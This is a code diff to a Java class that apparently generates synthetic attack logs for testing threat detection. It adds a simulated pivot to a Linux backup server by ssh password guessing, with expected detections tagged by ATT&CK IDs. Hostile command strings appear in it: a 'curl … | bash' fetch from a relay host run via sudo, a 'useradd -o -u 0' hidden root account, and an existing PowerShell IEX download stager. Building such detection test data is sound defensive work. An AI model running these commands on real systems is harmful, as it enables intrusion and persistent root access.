@@ -6,6 +6,7 @@ import dev.spoor.samples.ProxyLog.Request;
 import dev.spoor.samples.SecurityEvents.Logon;
 import java.nio.charset.StandardCharsets;
 import java.time.Instant;
+import java.util.List;
 import java.util.Locale;
 import java.util.Random;
 
@@ -30,6 +31,7 @@ final class Story {
     private static final String STAGE_URL = "http://" + STAGE_HOST + "/s/a1.txt";
     private static final String TOOL_URL = "http://" + STAGE_HOST + "/pkg/winupd.exe";
     private static final String CONTROL_URL = "https://" + CONTROL_HOST + "/beacon";
+    private static final String BACKUP_URL = "http://" + RELAY_HOST + "/bk01.sh";
     private static final String RELAY_URL = "http://" + RELAY_HOST + "/fs01.txt";
 
     private static final String STAGE_SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('" + STAGE_URL + "')";
@@ -74,6 +76,7 @@ final class Story {
         createUserRemotely(elevated);
         Proc service = installService();
         collectAndExfiltrate(service);
+        takeBackupServer(service);
         returnByRemoteDesktop();
     }
 
@@ -390,6 +393,63 @@ final class Story {
         }
     }
 
+    /**
+     * From the file server on to the backup server, which runs Linux: the password of the account that copies the shares is guessed over
+     * ssh, and what follows in that session needs root.
+     */
+    private void takeBackupServer(Proc powershell) {
+        LinuxHost bk01 = network.bk01;
+        String user = "svc-backup";
+        String from = fs01.address();
+        Instant time = at("11:18:04.3300000");
+        Proc ssh = fs01.start(
+                time.minusMillis(900),
+                powershell,
+                SYSTEM32 + "OpenSSH\\ssh.exe",
+                "ssh.exe -o StrictHostKeyChecking=no " + user + "@" + bk01.address());
+        fs01.connect(time.minusMillis(310), ssh, bk01.address(), 22);
+        for (int attempt = 0; attempt < 9; attempt++) {
+            bk01.refuse(time.plusSeconds(7L * attempt), bk01.nextPid(), user, from, 50_310 + attempt);
+        }
+        Instant in = time.plusSeconds(71);
+        int session = bk01.nextPid();
+        bk01.accept(in, session, "password", user, 1_002, from, 50_331);
+        expected.plant("ssh-guessed", "failed-then-successful logon", time)
+                .host(bk01)
+                .account(user)
+                .address(from)
+                .technique("T1110");
+        String fetch = "curl -fsS " + BACKUP_URL + " | bash";
+        Instant fetched = in.plusSeconds(44);
+        bk01.execute(in.plusSeconds(20), bk01.nextPid(), session, 1_002, 1_002, "/home/svc-backup", List.of("/usr/bin/id"));
+        bk01.sudo(fetched, user, 1_002, "/home/svc-backup", "/bin/bash -c " + fetch, List.of("/bin/bash", "-c", fetch));
+        browse(fetched.plusMillis(700), bk01.address(), script(BACKUP_URL, RELAY_ADDRESS, 2_114));
+        expected.plant("linux-fetch", "download-and-run", fetched)
+                .host(bk01)
+                .url(BACKUP_URL)
+                .technique("T1105");
+        Instant added = fetched.plusSeconds(63);
+        String second = "bkadm";
+        bk01.sudo(
+                added,
+                user,
+                1_002,
+                "/home/svc-backup",
+                "/usr/sbin/useradd -o -u 0 -g 0 -M -s /bin/bash " + second,
+                List.of("/usr/sbin/useradd", "-o", "-u", "0", "-g", "0", "-M", "-s", "/bin/bash", second));
+        bk01.userAdded(added.plusMillis(60), second, 0, "/home/bkadm", "/bin/bash");
+        expected.plant("linux-root", "new service, task or user", added)
+                .host(bk01)
+                .account(second)
+                .technique("T1136.001");
+        bk01.close(added.plusSeconds(420), session, user, 1_002);
+        expected.plant("linux-session", "suspicious session", in)
+                .host(bk01)
+                .account(user)
+                .address(from);
+        fs01.exit(added.plusSeconds(421), ssh);
+    }
+
     private void returnByRemoteDesktop() {
         Instant time = at("12:15:37.0429860");
         Session session = localSession("lm_support", 1007, 0x611f09a, 3);
@@ -415,6 +475,10 @@ final class Story {
 
     private static Request script(String url, String address, long bytes) {
         return Request.get(url, address, bytes, "text/plain", "-");
+    }
+
+    private void browse(Instant time, String client, Request request) {
+        network.proxy.add(time, client, "-", request);
     }
 
     private void browse(Instant time, Host host, Session session, Request request) {
